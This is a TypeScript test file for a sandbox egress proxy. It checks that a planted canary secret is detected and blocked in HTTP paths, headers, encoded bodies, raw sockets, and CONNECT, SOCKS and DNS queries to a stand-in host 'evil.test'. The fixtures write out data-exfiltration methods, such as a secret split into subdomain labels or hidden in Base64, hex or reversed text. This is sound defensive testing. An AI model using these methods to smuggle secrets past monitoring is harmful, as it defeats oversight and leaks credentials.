import { createSocket } from "node:dgram";
import { once } from "node:events";
import { request } from "node:http";
import { connect } from "node:net";
import { Readable } from "node:stream";
import { encode } from "dns-packet";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { NAME_SERVER } from "../../../../src/sandbox/egress/addresses.js";
import { CanarySearch } from "../../../../src/sandbox/egress/canaries/canary-search.js";
import { type Canary, newCanary } from "../../../../src/sandbox/egress/canaries/new-canary.js";
import { dialTo, egressPlace, eventually, tcpServer } from "../../../support/egress-place.js";
import { HOST, inspectedPlace } from "../../../support/inspected-place.js";

const VALUE = "Tr4pUq9ZxLmW3vKc7RhYb2NdPf8JsGt5AeQo6Hi1";
const canary: Canary = { name: "trap", values: [VALUE], variables: {}, file: null };
const base64 = Buffer.from(`x:${VALUE}`).toString("base64");
const leak = { kind: "denied", denial: { kind: "canary", name: "trap", isLeak: true } };

describe("a canary", () => {
  it.each([
    ["the path", `/a/${VALUE}`, {}, ""],
    ["the query, percent-encoded", `/?a=%54${VALUE.slice(1)}`, {}, ""],
    ["a header", "/", { "x-any": `a ${VALUE}` }, ""],
    ["Basic credentials", "/", { authorization: `Basic ${base64}` }, ""],
    ["a header in hexadecimal", "/", { cookie: Buffer.from(VALUE).toString("hex") }, ""],
    ["a body, reversed", "/", {}, `a ${VALUE.split("").reverse().join("")} b`],
    ["a body in Base64", "/", {}, base64],
  ])(
    "is found in %s, in TLS that ends at the proxy, after which nothing is reached",
    async (_, path, headers, body) => {
      const bodies: string[] = [];
      await using here = await inspectedPlace(
        async (incoming, response) => {
          incoming.on("error", () => undefined);
          for await (const chunk of incoming) bodies.push(String(chunk));
          response.end("yes");
        },
        { rules: [{}], canaries: [canary] },
      );
      const method = body === "" ? "GET" : "POST";
      const asked = here.ask(path, { method, headers, body });
      const text = await asked.then((answer) => answer.text).catch(() => "broken off");
      expect(text).toMatch(/has the canary trap|broken off/);
      await eventually(() => expect(here.egress.attempts).toMatchObject([{ host: HOST, outcome: leak }]));
      expect(here.egress.sentCanaries).toEqual([{ name: "trap", host: HOST }]);
      expect(bodies.join("")).toBe("");
      here.egress.egress.setHosts([`${HOST}:${here.server.port}`]);
      expect(here.egress.egress.hosts).toEqual([]);
      await expect(here.ask("/")).rejects.toThrow();
      expect(here.egress.attempts[1]?.outcome).toMatchObject({
        denial: { kind: "canary", name: "trap", isLeak: false },
      });
    },
  );

  it("is found in plain HTTP, across the parts of a body, and cuts other connections", async () => {
    let received = "";
    await using other = await tcpServer((socket) => socket.resume());
    await using server = await tcpServer((socket) =>
      socket.on("data", (data) => {
        received += data;
      }),
    );
    const hosts = [`plain.test:${server.port}`, `other.test:${other.port}`, "127.0.0.1"];
    await using here = await egressPlace({ hosts, canaries: [canary] });
    const open = await dialTo(here.proxyPort);
    open.socket.write(`CONNECT other.test:${other.port} HTTP/1.1\r\n\r\n`);
    await eventually(() => expect(open.received()).toContain("200"));
    const outgoing = request({
      ...{ port: here.proxyPort, method: "PUT", path: `http://plain.test:${server.port}/` },
      headers: { host: `plain.test:${server.port}`, "transfer-encoding": "chunked" },
    });
    outgoing.on("error", () => undefined);
    outgoing.write(`first ${VALUE.slice(0, 20)}`);
    await eventually(() => expect(received).toContain("first"));
    outgoing.write(`${VALUE.slice(20)} last`);
    await eventually(() => expect(here.sentCanaries).toEqual([{ name: "trap", host: "plain.test" }]));
    expect(await open.ended).toBe("reset");
    expect(received).not.toContain(VALUE.slice(20));
  });

  it("is found in a protocol that is not known, where it is not in TLS", async () => {
    let received = "";
    await using server = await tcpServer((socket) =>
      socket.on("data", (data) => {
        received += data;
      }),
    );
    await using here = await egressPlace({
      ...{ hosts: [`any.test:${server.port}`, "127.0.0.1"], canaries: [canary] },
    });
    const { socket, received: answered, ended } = await dialTo(here.proxyPort);
    socket.write(`CONNECT any.test:${server.port} HTTP/1.1\r\n\r\n`);
    await eventually(() => expect(answered()).toContain("200"));
    socket.write("hello of a protocol\n");
    await eventually(() => expect(received).toContain("hello"));
    socket.write(`${VALUE}\n`);
    expect(await ended).toBe("reset");
    await eventually(() => expect(here.attempts).toMatchObject([{ way: "connect", outcome: leak }]));
    expect(received).not.toContain(VALUE);
  });

  it.each<[string, (port: number) => Promise<unknown>]>([
    ["the target of CONNECT", async (port) => await refused(port, `${VALUE.toLowerCase()}.evil.test:443`)],
    [
      "labels of the target",
      async (port) => await refused(port, `a.${VALUE.slice(0, 20)}.${VALUE.slice(20)}.evil.test:443`),
    ],
    ["a target that is no host", async (port) => await refused(port, `${VALUE}_!:443`)],
    [
      "the target of SOCKS",
      async (port) => {
        const name = `${VALUE}.evil.test`;
        const socket = connect(port, "127.0.0.1");
        socket.on("error", () => undefined);
        socket.write(Buffer.from([5, 1, 0]));
        await once(socket, "data");
        socket.write(
          Buffer.concat([Buffer.from([5, 1, 0, 3, name.length]), Buffer.from(name), Buffer.from([1, 187])]),
        );
        await once(socket, "close");
      },
    ],
  ])("is found in %s, and the name is not looked up", async (_, attempt) => {
    await using here = await egressPlace({ hosts: ["*.evil.test"], canaries: [canary] });
    await attempt(here.proxyPort);
    expect(here.attempts).toMatchObject([{ outcome: leak }]);
    expect(here.sentCanaries).toHaveLength(1);
    expect(here.lookups).toEqual([]);
  });

  it("is found in a question to the name server", async () => {
    await using here = await egressPlace({ hosts: ["*.evil.test"], canaries: [canary] });
    const name = `${VALUE.toLowerCase()}.evil.test`;
    const query = encode({ type: "query", id: 1, questions: [{ type: "TXT", name }] });
    const socket = createSocket("udp4");
    socket.send(query, here.network.datagramPortOf(NAME_SERVER), "127.0.0.1");
    await once(socket, "message");
    socket.close();
    expect(here.attempts).toMatchObject([{ way: "name", outcome: leak }]);
    expect(here.sentCanaries).toHaveLength(1);
  });

  it("is found wherever a stream is cut, and nothing is found without it", async () => {
    const search = new CanarySearch([
      canary,
      newCanary("other", { form: "aws-access-key", variable: null, file: null }),
    ]);
    await fc.assert(
      fc.asyncProperty(fc.array(fc.nat(60), { maxLength: 20 }), fc.boolean(), async (sizes, isThere) => {
        let rest = `${"a".repeat(100)}${isThere ? VALUE : VALUE.slice(1)}${"b".repeat(100)}`;
        const chunks = sizes.map((size) => {
          const chunk = rest.slice(0, size);
          rest = rest.slice(size);
          return Buffer.from(chunk);
        });
        const stream = Readable.from([...chunks, Buffer.from(rest)]);
        const found: string[] = [];
        search.watch(stream, (name) => found.push(name));
        await once(stream, "end");
        expect(found).toEqual(isThere ? ["trap"] : []);
      }),
    );
  });
});

async function refused(port: number, target: string): Promise<void> {
  const { socket, ended } = await dialTo(port);
  socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);
  await ended;
}
